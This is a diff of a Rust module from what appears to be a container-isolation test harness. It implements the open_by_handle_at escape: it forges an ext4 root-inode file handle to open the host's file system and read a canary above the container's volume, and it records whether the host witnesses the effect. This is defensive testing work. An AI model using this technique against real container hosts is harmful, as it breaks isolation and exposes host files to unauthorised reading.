@@ -1,13 +1,10 @@
 //! open-by-handle: open the host's files by their inode numbers.
 
 use super::{Attack, Attempt, Measured, Need};
-use crate::inside::canary::canary;
-use crate::{Host, Inside, Seen};
-use nix::errno::Errno;
-use nix::fcntl::{OFlag, open};
+use crate::attacker::Failed;
+use crate::refusals::Refusal;
+use crate::{Attacker, Host, Seen};
 use nix::libc;
-use nix::sys::stat::Mode;
-use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
 
 /// The attempt.
 pub const ATTEMPT: Attempt = Attempt {
@@ -28,42 +25,30 @@ pub const ATTEMPT: Attempt = Attempt {
     man: &["open_by_handle_at(2)", "capabilities(7)"],
     letters: Measured { root: "E EEEEBBB", user: "I IIIIIII", rootless: "I IIIIIII" },
     needs: &[Need::Ext4Volume],
-    decisive: &[libc::SYS_open_by_handle_at, libc::SYS_openat, libc::SYS_pread64],
-    attack: Attack::Inside(inside),
+    decisive: &[libc::SYS_open_by_handle_at, libc::SYS_openat, libc::SYS_openat2, libc::SYS_pread64],
+    attack: Attack::ByHand(attack, Refusal::Handle),
     witness,
 };
 
-/// `struct file_handle` with the content that ext4 gives it: FILEID_INO32_GEN in include/linux/exportfs.h.
-#[repr(C)]
-struct Handle {
-    length: u32,
-    kind: i32,
-    inode: u32,
-    generation: u32,
-}
+/// `struct file_handle` with the content that ext4 gives it: its length, FILEID_INO32_GEN (include/linux/exportfs.h),
+/// the inode of an ext4's top directory (EXT4_ROOT_INO in fs/ext4/ext4.h), and generation 0, which stands for any.
+const TOP: [u32; 4] = [8, 1, 2, 0];
 
-/// The top directory of an ext4: EXT4_ROOT_INO in fs/ext4/ext4.h. Generation 0 stands for any.
-static TOP: Handle = Handle { length: 8, kind: 1, inode: 2, generation: 0 };
-
-fn inside(me: &mut Inside) -> Result<(), Errno> {
-    let directory = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC;
-    let at = |path: &str| open(path, directory, Mode::empty());
-    // A container without the volume may still stand on the host's file system.
-    let volume = at(&me.in_rootfs(me.given("ext4"))).or_else(|_| at("/"))?;
-    me.decisive("open_by_handle_at({FILEID_INO32_GEN, inode 2}), openat(\"canary\")");
-    // SAFETY: the handle has the length that it names; the call returns a descriptor, which we own.
-    let top = unsafe {
-        let number = libc::SYS_open_by_handle_at;
-        let answer = libc::syscall(number, volume.as_raw_fd(), &raw const TOP, directory.bits());
-        OwnedFd::from_raw_fd(Errno::result(answer)? as RawFd)
+fn attack(me: &mut Attacker) -> Result<(), Failed> {
+    let directory = libc::O_RDONLY | libc::O_DIRECTORY;
+    let volume = me.in_rootfs(me.given("ext4"));
+    let volume = match me.open(&volume, directory) {
+        // A container without the volume may still stand on the host's file system.
+        Err(Failed::Refused(_)) => me.open("/", directory).map_err(Failed::in_preparation)?,
+        opened => opened?,
     };
-    let found = canary(top, &[""])?;
-    me.bring_out(&found);
-    Ok(())
+    let top = me.open_by_handle(volume, TOP.map(u32::to_ne_bytes).concat(), directory)?;
+    me.show(top)?;
+    me.take_canary(top, &[""])
 }
 
 fn witness(host: &Host) -> Seen {
-    if host.heard_secret("ext4") {
+    if host.took("ext4") {
         return Seen::Effect("the attacker has read a file above its volume, by inode number".into());
     }
     Seen::Nothing
